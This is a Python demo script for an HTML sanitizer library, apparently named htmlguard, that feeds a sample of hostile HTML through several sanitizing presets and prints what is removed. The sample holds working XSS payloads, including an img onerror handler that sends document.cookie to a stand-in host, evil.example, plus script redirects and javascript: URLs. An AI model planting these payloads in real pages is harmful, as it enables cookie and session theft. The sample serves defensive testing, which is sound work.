"""A short tour of htmlguard: hostile HTML in, safe HTML and a report out.

Run with ``python example_app/tour.py`` once htmlguard is installed (``./scripts/setup``).
``./scripts/demo`` starts the example site instead (``python -m example_app``).
"""

from __future__ import annotations

import htmlguard as hg

HOSTILE = """\
<h2 onmouseover="steal(document.cookie)">Challenge: Baby XSS</h2>
<p>Find the flag. <b>Hint:</b> <a href="javascript:alert(1)">click me</a>
or read <a href="https://ctf.example.org/rules">the rules</a>.</p>
<img src="x" onerror="fetch('//evil.example/'+document.cookie)">
<script>document.location='//evil.example'</script>
<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>
<!-- admin note: flag{not_here} -->
<table><tr><td style="background:url(javascript:alert(1))">cell</td></tr></table>"""


def main() -> None:
    print("=== hostile input ===")
    print(HOSTILE)
    for name in ("ugc", "basic", "strict"):
        print(f"\n=== sanitized with the {name!r} preset ===")
        print(hg.sanitize(HOSTILE, name))
    report = hg.inspect(HOSTILE, "ugc")
    print("\n=== what 'ugc' removed ===")
    print(report)
    for r in report.removed:
        print(f"  {r.kind:<9} <{r.tag or '-'}> {r.name}={r.value!r}")
    print("\n=== a custom policy, derived from a preset ===")
    comments = hg.Policy.preset("basic").derive(target_blank=True, max_input_bytes=10_000)
    hg.policies.register("comments", comments, replace=True)
    print(hg.sanitize('See <a href="https://example.org">this</a> <u>now</u>', "comments"))


if __name__ == "__main__":
    main()
